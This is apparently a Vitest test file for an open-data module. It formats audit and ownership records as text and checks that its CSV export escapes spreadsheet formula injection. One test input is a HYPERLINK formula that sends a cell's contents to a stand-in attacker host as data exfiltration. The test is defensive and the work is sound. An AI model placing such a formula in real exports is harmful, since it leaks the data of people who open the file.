import { describe, expect, it } from 'vitest';
import { sourceInfo } from '../../tests/support/sources';
import { auditShort, auditText, csvField, ownershipText, toCsv } from './open-data';

const provenance = {
  source: sourceInfo({ name: 'Example', url: 'https://example.org/', kind: 'publication', date: '2025' }),
};

describe('audits and ownership in words', () => {
  it('give the firm, the date as printed and the scope, with the source’s detail', () => {
    expect(
      auditText({
        firm: 'Deloitte',
        date: '2025-12-12',
        scope: 'no-logs',
        scopeText: 'ISAE 3000',
        provenance,
      }),
    ).toBe('Deloitte, December 12, 2025: no-logs policy (ISAE 3000)');
    expect(
      auditText({
        firm: 'Cure53',
        date: '2025-10',
        scope: 'other',
        scopeText: 'apps and servers',
        provenance,
      }),
    ).toBe('Cure53, October 2025: apps and servers');
    expect(auditText({ firm: 'SEC Consult', date: '2020', scope: 'apps', provenance })).toBe(
      'SEC Consult, 2020: apps',
    );
    expect(
      auditShort({ firm: 'Cure53', date: '2025-10', scope: 'other', scopeText: 'apps', provenance }),
    ).toBe('Cure53, October 2025 (other scope)');
  });

  it('name the owner, the parent and since when, as far as the source says', () => {
    expect(
      ownershipText({ owner: 'Proton AG', parent: 'Proton Foundation', since: '2024', provenance }),
    ).toBe('Proton AG; parent: Proton Foundation; since 2024');
    expect(ownershipText({ owner: 'Pango', provenance })).toBe('Pango');
  });
});

describe('CSV cells', () => {
  it('neutralises a text that a spreadsheet would run as a formula', () => {
    expect(csvField('=HYPERLINK("https://evil.example/?leak="&A1,"No logs")')).toBe(
      `"'=HYPERLINK(""https://evil.example/?leak=""&A1,""No logs"")"`,
    );
    expect(['+1', '-1+2', '@SUM(A1)', '\tx', '\rx'].map(csvField)).toEqual([
      "'+1",
      "'-1+2",
      "'@SUM(A1)",
      "'\tx",
      `"'\rx"`,
    ]);
  });

  it('leaves numbers, ordinary text and empty cells as they are', () => {
    expect(toCsv([[-3, 'No logs', '9.99-12.99', null, true]])).toBe('-3,No logs,9.99-12.99,,true\r\n');
  });
});
